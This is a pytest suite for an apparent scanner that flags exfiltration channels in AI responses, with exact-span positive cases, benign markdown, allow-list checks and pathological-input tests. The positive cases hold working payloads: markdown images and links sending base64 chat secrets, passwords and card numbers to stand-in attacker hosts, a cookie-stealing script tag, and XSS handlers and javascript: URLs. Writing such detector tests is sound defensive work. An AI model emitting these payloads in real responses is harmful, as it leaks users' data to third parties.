"""Exfiltration-channel scanner: exact spans, bypass attempts, allow-list, benign markdown."""

from __future__ import annotations

import pytest

from bastion._types import Category, Severity, Surface
from bastion.detect._base import DetectConfig, Document
from bastion.detect._exfil import ALLOWED_HOSTS_KEY, RULES, ExfilScanner, url_carries_data


@pytest.fixture(scope="module", params=["auto", "re2"])
def scanner(request: pytest.FixtureRequest) -> ExfilScanner:
    return ExfilScanner(DetectConfig(engine=request.param), allowed_hosts=["imgur.com", "github.com"])


def findings(scanner: ExfilScanner, text: str) -> list[tuple[str, int, int]]:
    doc = Document(text=text, surface=Surface.RESPONSE, config=DetectConfig())
    return [(f.rule_id, f.start, f.end) for f in scanner.scan(doc)]


def at(text: str, rule: str, sub: str) -> tuple[str, int, int]:
    i = text.index(sub)
    return (rule, i, i + len(sub))


B64 = "c2VjcmV0IGZyb20gdGhlIGNoYXQ"
POSITIVES: list[tuple[str, list[tuple[str, str]]]] = [
    (f"ok ![](https://attacker.example/p.png?d={B64}) done", [("exfil.markdown_image", f"![](https://attacker.example/p.png?d={B64})")]),
    (f"![a]( <https://x.example/{B64}.png> )", [("exfil.markdown_image", f"![a]( <https://x.example/{B64}.png> )")]),
    ('![a](https://x.example/i.png?w=1 "title")', [("exfil.markdown_image", '![a](https://x.example/i.png?w=1 "title")')]),
    ("![x](//cdn.evil.example/t.gif?u=bob)", [("exfil.markdown_image", "![x](//cdn.evil.example/t.gif?u=bob)")]),
    (
        "![x](HTTPS://EVIL.EXAMPLE/log?q=the+user+password+is+hunter2)",
        [("exfil.markdown_image", "![x](HTTPS://EVIL.EXAMPLE/log?q=the+user+password+is+hunter2)")],
    ),
    (
        f"![logo][r1]\n\n[r1]: https://evil.example/x.png?q={B64}",
        [("exfil.markdown_image", f"[r1]: https://evil.example/x.png?q={B64}")],
    ),
    (
        f"[click](https://attacker.example/c?data={B64})",
        [("exfil.markdown_link", f"[click](https://attacker.example/c?data={B64})")],
    ),
    (
        "[x](https://a.example/?note=my%20card%20number%20is%204539)",
        [("exfil.markdown_link", "[x](https://a.example/?note=my%20card%20number%20is%204539)")],
    ),
    ("<script>fetch('//x.example/?c='+document.cookie)</script>", [("exfil.html_script", "<script>fetch('//x.example/?c='+document.cookie)</script>")]),
    ("<SCRIPT SRC=//x.example/a.js></SCRIPT>", [("exfil.html_script", "<SCRIPT SRC=//x.example/a.js></SCRIPT>")]),
    ('<iframe src="https://a.example/"></iframe>', [("exfil.html_frame", '<iframe src="https://a.example/">')]),
    ('<img src=x onerror="alert(1)">', [("exfil.html_event_handler", '<img src=x onerror="alert(1)">')]),
    ("<svg/onload=alert(1)>", [("exfil.html_event_handler", "<svg/onload=alert(1)>")]),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', [("exfil.javascript_url", '<a href="jav&#x09;ascript:alert(1)">')]),
    ("<a href=' JaVaScRiPt:alert(1)'>", [("exfil.javascript_url", "<a href=' JaVaScRiPt:alert(1)'>")]),
    ("[open](javascript:alert(1))", [("exfil.javascript_url", "[open](javascript:alert(1))")]),
    ('<form action="https://attacker.example/collect">', [("exfil.html_form", '<form action="https://attacker.example/collect">')]),
    (
        '<meta http-equiv="refresh" content="0;url=https://a.example/">',
        [("exfil.meta_refresh", '<meta http-equiv="refresh" content="0;url=https://a.example/">')],
    ),
    (
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        [("exfil.data_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")],
    ),
    (
        '<object data="data:image/svg+xml,<svg onload=x>">',
        [("exfil.data_url", "data:image/svg+xml,"), ("exfil.html_event_handler", "<svg onload=x>")],
    ),
    ('<object data="https://a.example/x.swf">', [("exfil.html_frame", '<object data="https://a.example/x.swf">')]),
    (
        '<img src="https://attacker.example/p.gif?u=alice%40corp.example">',
        [("exfil.html_resource", '<img src="https://attacker.example/p.gif?u=alice%40corp.example">')],
    ),
    ("Größe ✓ ![](https://e.example/a.png?x=1)", [("exfil.markdown_image", "![](https://e.example/a.png?x=1)")]),
]


@pytest.mark.parametrize(("text", "items"), POSITIVES, ids=[t[:40] for t, _ in POSITIVES])
def test_positive_exact_spans(scanner: ExfilScanner, text: str, items: list[tuple[str, str]]) -> None:
    assert findings(scanner, text) == [at(text, r, s) for r, s in items]


BENIGN = [
    "![logo](https://cdn.site.example/logo.png) plain image without data",
    "![diagram](./docs/arch.svg) relative image",
    f"![ok](https://i.imgur.com/a.png?x={B64}) allow-listed subdomain",
    f"![ok](https://github.com/org/repo/raw/main/{B64}.png) allow-listed host",
    "See [the docs](https://docs.python.org/3/library/re.html#re.sub) and [search](https://www.google.com/search?q=regex)",
    "[commit](https://gitlab.example/org/repo/-/commit/3f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a)",
    "Use `<div class=\"box\">` and <b>bold</b> and <br/> in HTML",
    "![chart](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
    "mailto:data:x and metadata: fine",
    "a < b and c > d, x<y",
]


@pytest.mark.parametrize("text", BENIGN)
def test_benign_stays_clean(scanner: ExfilScanner, text: str) -> None:
    assert findings(scanner, text) == []


def test_query_only_image_is_medium_and_data_image_high(scanner: ExfilScanner) -> None:
    doc = Document(text=f"![](https://e.example/a.png?w=1) ![](https://e.example/a.png?d={B64})", surface=Surface.RESPONSE, config=DetectConfig())
    assert [f.severity for f in scanner.scan(doc)] == [Severity.MEDIUM, Severity.HIGH]


def test_allow_list_from_config_extra() -> None:
    s = ExfilScanner(DetectConfig(extra=((ALLOWED_HOSTS_KEY, "stats.example, .cdn.example"),)))
    assert s.allowed_hosts == frozenset({"stats.example", "cdn.example"})
    text = f"![](https://img.cdn.example/p.png?d={B64}) ![](https://stats.example/p.png?d={B64})"
    assert findings(s, text) == []
    # a look-alike host is not allowed
    bad = f"![](https://stats.example.evil.example/p.png?d={B64})"
    assert [r for r, _, _ in findings(s, bad)] == ["exfil.markdown_image"]


@pytest.mark.parametrize(
    ("url", "carries"),
    [
        (f"https://a.example/x?d={B64}", True),
        ("https://a.example/x?q=" + "a" * 90, True),
        ("https://a.example/x?hex=" + "ab" * 20, True),
        ("https://a.example/x?e=bob%40corp.example", True),
        ("https://a.example/docs/getting-started", False),
        ("https://a.example/x?page=2&lang=en", False),
    ],
)
def test_url_carries_data(url: str, carries: bool) -> None:
    assert (url_carries_data(url) is not None) is carries


def test_rules_documented_and_examples_detected() -> None:
    s = ExfilScanner(DetectConfig())
    for r in RULES:
        assert r.category is Category.EXFIL and r.description and r.example
        doc = Document(text=r.example, surface=Surface.RESPONSE, config=DetectConfig())
        assert r.rule_id in {f.rule_id for f in s.scan(doc)}, r.rule_id


def test_bounded_on_pathological_input(scanner: ExfilScanner) -> None:
    for text in ("![" * 50_000, "](" * 50_000, "<a " * 30_000, "<img src=" + "x" * 200_000, "[a]: " * 40_000):
        findings(scanner, text)
